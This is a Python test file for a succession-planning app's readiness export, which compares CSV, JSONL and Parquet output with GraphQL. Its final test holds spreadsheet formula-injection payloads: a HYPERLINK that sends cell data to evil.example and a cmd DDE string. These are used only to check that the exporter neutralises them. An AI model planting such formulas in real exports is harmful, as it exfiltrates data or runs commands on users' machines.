"""The readiness export: each format re-read and compared row by row with GraphQL; CSV round trips
of awkward names; an empty organisation; an interrupted export; the fixed column contract.

Organisation (role R critical, requires s1 level 4 weight 1 and s2 level 2 weight 1, Σ = 6):
- inc holds R; n1 READY_NOW and n2 READY_1_2_YEARS are nominated; c1, c2, c3 never assessed;
  w was assessed, then withdrawn (so neither nominated nor a never-assessed candidate).
- Q (not critical) has no successors and nobody fits it: its only row is kind NONE.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from graph.auth import LOCAL_DEVELOPER
from graph.cypher import QUERY_COUNTS
from graph.db import Database
from graph.exporting.files import write_export
from graph.exporting.formats import ExportFormat
from graph.services.export import (
    COLUMN_NAMES,
    COLUMNS,
    ExportFilters,
    ExportRun,
    instant,
    readiness_rows,
)
from graph.services.shortlists import rebuild
from graph.settings import Settings
from tests.support.factories import Org
from tests.support.http_server import ApiClient, nodes
from tests.support.paths import REPO

AWKWARD = 'Ng, "Nina"\nÅsa-Zoë Ñandú'


async def rename_awkwardly(db: Database) -> None:
    """Give n1 the AWKWARD name straight in the graph. The CSV import refuses a line break in a
    name (README), but a graph written before it did, or by another tool, may hold one, and an
    export must still quote it."""
    async with db.driver.session(database=db.database) as session:
        await session.run("MATCH (e:Employee {id: 'n1'}) SET e.name = $name", name=AWKWARD)


def org() -> Org:
    return (
        Org()
        .unit("u1", name="Sales, EMEA")
        .skill("s1", name='Negotiation, "hard"')
        .skill("s2", name="Forecasting")
        .skill("s9")
        .role("R", "u1", {"s1": (4, 1), "s2": (2, 1)}, critical=True, title="Head of Sales")
        .role("Q", "u1", {"s9": (3, 1)}, title="Quiet role")
        .employee(
            "inc",
            holds=("R",),
            skills={"s1": 4, "s2": 2},
            risk_of_loss="HIGH",
            impact_of_loss="HIGH",
        )
        .employee("n1", skills={"s1": 3, "s2": 2}, name=AWKWARD.replace("\n", " "))
        .employee("n2", skills={"s1": 1})
        .employee("c1", skills={"s1": 4, "s2": 1})
        .employee("c2", skills={"s1": 2, "s2": 2})
        .employee("c3", skills={"s2": 1})
        .employee("w", skills={"s1": 4, "s2": 2})
        .assess("n1", "R", "READY_NOW")
        .assess("n2", "R", "READY_1_2_YEARS")
    )


def test_columns_are_the_documented_contract() -> None:
    assert COLUMN_NAMES == (
        "role_id", "role_title", "org_unit_id", "org_unit_name", "critical", "incumbent_ids",
        "coverage", "cover", "bench_score", "key_person_risk", "person_id", "person_name", "kind",
        "readiness", "assessed_at", "assessed_by", "fit", "gap_count", "top_gaps", "exposure",
        "exposure_source",
    )  # fmt: skip
    readme = (REPO / "README.md").read_text(encoding="utf-8")
    documented = readme[readme.index("Columns, in order:") :].split(".\n")[0]
    assert re.findall(r"`([a-z_]+)`", documented) == list(COLUMN_NAMES)


async def _export(
    db: Database, tmp_path: Path, fmt: ExportFormat, **filters: Any
) -> tuple[Path, dict[str, Any]]:
    run = ExportRun()
    path = tmp_path / f"out.{fmt.value}"
    result = await write_export(
        readiness_rows(db, Settings(), ExportFilters(**filters), run, principal=LOCAL_DEVELOPER),
        fmt,
        COLUMNS,
        path,
        lambda: {"roles": run.roles, "bookmarks": run.bookmarks},
    )
    return result.path, result.manifest


def read_back(path: Path, fmt: ExportFormat) -> list[dict[str, Any]]:
    if fmt is ExportFormat.PARQUET:
        rows = pq.read_table(path).to_pylist()
        for row in rows:
            if row["assessed_at"] is not None:
                row["assessed_at"] = row["assessed_at"].astimezone(UTC).isoformat()
        return rows
    if fmt is ExportFormat.JSONL:
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for key in ("incumbent_ids", "top_gaps"):
            row[key] = row[key].split(";") if row[key] else []
        for key in ("bench_score", "key_person_risk", "exposure"):
            row[key] = float(row[key]) if row[key] else None
        row["gap_count"] = int(row["gap_count"]) if row["gap_count"] else None
        row["critical"] = row["critical"] == "true"
        for key in row:
            if row[key] == "":
                row[key] = None
    return rows


def as_exported(share: float | None, fmt: ExportFormat) -> Any:
    """A share (fit, cover) as the format holds it: CSV writes a percentage with one decimal."""
    if fmt is ExportFormat.CSV and share is not None:
        return f"{share * 100:.1f}%"
    return share


def _iso(value: str | None) -> str | None:
    return datetime.fromisoformat(value).astimezone(UTC).isoformat() if value else None


@pytest.mark.parametrize("fmt", list(ExportFormat))
@pytest.mark.parametrize("shortlists", [False, True])
async def test_rows_match_graphql(
    db: Database, api: ApiClient, tmp_path: Path, fmt: ExportFormat, shortlists: bool
) -> None:
    await org().save(db)
    await rename_awkwardly(db)
    api.data(
        'mutation { assessReadiness(input: {employeeId: "w", roleId: "R", readiness: READY_NOW}) { id } }'
    )
    api.data('mutation { withdrawNomination(employeeId: "w", roleId: "R") { id } }')
    if shortlists:
        await rebuild(db)
    path, manifest = await _export(db, tmp_path, fmt, all_roles=True, candidates=2)
    rows = read_back(path, fmt)
    assert manifest["rowCount"] == len(rows) == 5
    assert manifest["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()

    gql = api.data(
        """{ successors(roleId: "R") { edges { node {
               employee { id name } readiness fit assessedAt assessedBy } } }
             successionCandidates(roleId: "R", first: 100) { edges { node {
               employee { id } fit readiness gaps { skill { name } } } } }
             benchStrength(criticalOnly: false) { edges { node {
               role { id } benchScore coverage keyPersonRisk incumbents { edges { node { id } } }
             } } } }"""
    )
    gql = {name: nodes(found) for name, found in gql.items()}
    bench = {b["role"]["id"]: b for b in gql["benchStrength"]}
    r_rows = [r for r in rows if r["role_id"] == "R"]
    nominated = [r for r in r_rows if r["kind"] == "NOMINATED"]
    assert [
        (
            r["person_id"],
            r["person_name"],
            r["readiness"],
            r["fit"],
            _iso(r["assessed_at"]),
            r["assessed_by"],
        )
        for r in nominated
    ] == [
        (
            s["employee"]["id"],
            s["employee"]["name"],
            s["readiness"],
            as_exported(s["fit"], fmt),
            _iso(s["assessedAt"]),
            s["assessedBy"],
        )
        for s in gql["successors"]
    ]
    never = [
        c
        for c in gql["successionCandidates"]
        if c["readiness"] is None and c["employee"]["id"] != "w"
    ]
    candidates = [r for r in r_rows if r["kind"] == "CANDIDATE"]
    assert [(r["person_id"], r["fit"]) for r in candidates] == [
        (c["employee"]["id"], as_exported(c["fit"], fmt)) for c in never[:2]
    ]
    assert [r["person_id"] for r in candidates] == ["c1", "c2"]  # fits 5/6 and 4/6; c3 1/6 is third
    if fmt is ExportFormat.CSV:
        assert [r["fit"] for r in candidates] == ["83.3%", "66.7%"]
    assert candidates[0]["top_gaps"] == ["Forecasting"] and candidates[0]["gap_count"] == 1
    for row in r_rows:
        assert row["bench_score"] == bench["R"]["benchScore"] == 1.5
        assert row["coverage"] == bench["R"]["coverage"] == "COVERED"
        assert row["key_person_risk"] == bench["R"]["keyPersonRisk"] == 0.0
        assert row["incumbent_ids"] == ["inc"]
        assert (row["org_unit_name"], row["role_title"], row["critical"]) == (
            "Sales, EMEA",
            "Head of Sales",
            True,
        )
    quiet = [r for r in rows if r["role_id"] == "Q"]
    assert [(r["kind"], r["person_id"], r["coverage"]) for r in quiet] == [
        ("NONE", None, "UNCOVERED")
    ]
    assert next(r for r in nominated if r["person_id"] == "n1")["person_name"] == AWKWARD


async def test_filters_critical_org_unit_and_since(db: Database, tmp_path: Path) -> None:
    await org().unit("u2").role("Z", "u2", {"s1": (1, 1)}, critical=True).save(db)
    path, _ = await _export(db, tmp_path, ExportFormat.JSONL)
    assert {r["role_id"] for r in read_back(path, ExportFormat.JSONL)} == {"R", "Z"}
    path, _ = await _export(db, tmp_path, ExportFormat.JSONL, org_unit_id="u2")
    assert {r["role_id"] for r in read_back(path, ExportFormat.JSONL)} == {"Z"}
    path, _ = await _export(
        db, tmp_path, ExportFormat.JSONL, since=datetime(2030, 1, 1, tzinfo=UTC)
    )
    assert read_back(path, ExportFormat.JSONL) == []
    path, _ = await _export(db, tmp_path, ExportFormat.JSONL, since=datetime(2020, 1, 1))
    assert {r["role_id"] for r in read_back(path, ExportFormat.JSONL)} == {"R"}


@pytest.mark.parametrize("fmt", list(ExportFormat))
async def test_empty_organisation_gives_header_only_and_zero_rows(
    db: Database, tmp_path: Path, fmt: ExportFormat
) -> None:
    path, manifest = await _export(db, tmp_path, fmt)
    assert manifest["rowCount"] == 0
    assert [c["name"] for c in manifest["columns"]] == list(COLUMN_NAMES)
    if fmt is ExportFormat.CSV:
        assert path.read_bytes() == (",".join(COLUMN_NAMES) + "\r\n").encode()
    elif fmt is ExportFormat.JSONL:
        assert path.read_bytes() == b""
    else:
        table = pq.read_table(path)
        assert table.num_rows == 0 and table.column_names == list(COLUMN_NAMES)


async def test_interrupted_export_leaves_nothing(tmp_path: Path) -> None:
    async def failing() -> AsyncIterator[list[dict[str, Any]]]:
        yield [dict.fromkeys(COLUMN_NAMES) | {"top_gaps": [], "incumbent_ids": []}]
        raise ConnectionError("the database went away")

    target = tmp_path / "out.csv"
    with pytest.raises(ConnectionError):
        await write_export(failing(), ExportFormat.CSV, COLUMNS, target, dict)
    assert list(tmp_path.iterdir()) == []


async def test_unknown_org_unit_and_bad_candidates(db: Database, tmp_path: Path) -> None:
    from graph.errors import BadUserInput, NotFound

    with pytest.raises(NotFound):
        await _export(db, tmp_path, ExportFormat.CSV, org_unit_id="nope")
    with pytest.raises(BadUserInput):
        await _export(db, tmp_path, ExportFormat.CSV, candidates=51)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("fmt", list(ExportFormat))
async def test_http_stream_matches_the_file(
    db: Database, api: ApiClient, tmp_path: Path, fmt: ExportFormat
) -> None:
    await org().save(db)
    path, _ = await _export(db, tmp_path, fmt, all_roles=True)
    response = api.http.get("/exports/readiness", params={"format": fmt.value, "allRoles": "true"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith(fmt.media_type.split(";")[0])
    assert f".{fmt.value}" in response.headers["content-disposition"]
    if fmt is ExportFormat.PARQUET:
        assert (
            pq.read_table(io.BytesIO(response.content)).to_pylist()
            == pq.read_table(path).to_pylist()
        )
    else:
        assert response.content == path.read_bytes()
    assert api.http.get("/exports/readiness", params={"orgUnitId": "nope"}).status_code == 404
    assert api.http.get("/exports/readiness", params={"candidates": 99}).status_code == 400


async def test_candidates_from_long_shortlists_match_graphql(
    db: Database, api: ApiClient, tmp_path: Path
) -> None:
    """Candidates come from the head of each fresh shortlist, ties at the cut by id, as GraphQL
    has them; a role whose shortlist is stale is scored live, with the same answer."""
    org = (
        Org()
        .unit("u")
        .skill("a")
        .skill("b")
        .skill("c")
        .role("T", "u", {"a": (5, 1), "b": (5, 2)}, critical=True)
        .role("U", "u", {"c": (3, 1)}, critical=True)
    )
    for i, (a, b) in enumerate([(1, 1), (2, 1), (3, 1), (4, 1), (5, 1), (5, 2), (5, 3), (5, 4)]):
        org = org.employee(f"t{i}", skills={"a": a, "b": b})
    for i in range(6):
        org = org.employee(f"u{5 - i}", skills={"c": 2})
    await org.save(db)
    await rebuild(db)
    before = QUERY_COUNTS["shortlists/employee_skills"]
    path, _ = await _export(db, tmp_path, ExportFormat.JSONL, candidates=2)
    assert QUERY_COUNTS["shortlists/employee_skills"] == before  # fresh: nobody scored live
    rows = read_back(path, ExportFormat.JSONL)
    for role_id, expected in (("T", ["t7", "t6"]), ("U", ["u0", "u1"])):
        gql = nodes(
            api.data(
                f'{{ successionCandidates(roleId: "{role_id}", first: 100) '
                "{ edges { node { employee { id } fit gaps { skill { name } } } } } }"
            )["successionCandidates"]
        )
        got = [r for r in rows if r["role_id"] == role_id]
        assert [(r["person_id"], r["fit"]) for r in got] == [
            (c["employee"]["id"], c["fit"]) for c in gql[:2]
        ]
        assert [r["person_id"] for r in got] == expected
        assert [r["gap_count"] for r in got] == [len(c["gaps"]) for c in gql[:2]]
        assert [r["top_gaps"] for r in got] == [
            [g["skill"]["name"] for g in c["gaps"]][:3] for c in gql[:2]
        ]


async def test_assessment_times_read_as_parts_are_the_drivers_own(db: Database) -> None:
    """The page query reads assessedAt as [epoch seconds, nanosecond, offset seconds] (the
    driver's DateTime values are slow to build); `instant` gives what `to_native()` would."""
    async with db.driver.session(database=db.database) as session:
        result = await session.run(
            "UNWIND [datetime('2026-01-31T10:08:39Z'), datetime('2025-12-31T23:59:59.999999999Z'), "
            "datetime('2026-03-01T08:00:00.123456789+05:30'), "
            "datetime('2026-07-01T12:00:00.5[Europe/Paris]'), "
            "datetime('1969-07-20T20:17:40.000001-04:00')] AS at "
            "RETURN at, [at.epochSeconds, at.nanosecond, at.offsetSeconds] AS parts"
        )
        read = [(record["at"], record["parts"]) async for record in result]
    assert len(read) == 5
    for driver, parts in read:
        native, got = driver.to_native(), instant(parts)
        assert got == native
        assert got is not None and got.isoformat() == native.isoformat()
    assert instant([None, None, None]) is None


FORMULAS = {
    "person": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "title": "+cmd|' /C calc'!A0",
    "unit": "-2+3",
    "by": "@SUM(1+1)",
    "tab": "\tlooks empty",
    "cr": "\rhidden",
}


async def test_csv_never_holds_a_spreadsheet_formula(
    db: Database, api: ApiClient, tmp_path: Path
) -> None:
    """Text starting with =, +, -, @, tab or CR is written with a leading apostrophe in CSV (the
    file and the HTTP download), and as it is in JSON Lines and Parquet."""
    await (
        Org()
        .unit("u", name=FORMULAS["unit"])
        .skill("s")
        .role("R", "u", {"s": (2, 1)}, critical=True, title=FORMULAS["title"])
        .employee("p", skills={"s": 2}, name=FORMULAS["person"])
        .employee("q", skills={"s": 1})
        .employee("c", skills={"s": 1})
        .assess("p", "R", "READY_NOW", by=FORMULAS["by"])
        .save(db)
    )
    # imports trim and refuse control characters; another tool may still write them
    async with db.driver.session(database=db.database) as session:
        for person, name in (("q", FORMULAS["tab"]), ("c", FORMULAS["cr"])):
            await session.run(
                "MATCH (e:Employee {id: $id}) SET e.name = $name", id=person, name=name
            )
    path, _ = await _export(db, tmp_path, ExportFormat.CSV)
    downloaded = api.http.get("/exports/readiness", params={"format": "csv"}).text
    for text in (path.read_bytes().decode("utf-8"), downloaded):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-")[:1].isdigit()]
        for value in FORMULAS.values():
            assert "'" + value in cells, value
    jsonl, _ = await _export(db, tmp_path, ExportFormat.JSONL)
    rows = read_back(jsonl, ExportFormat.JSONL)
    assert {r["person_name"] for r in rows} >= {FORMULAS["person"], FORMULAS["tab"]}
    assert {r["role_title"] for r in rows} == {FORMULAS["title"]}
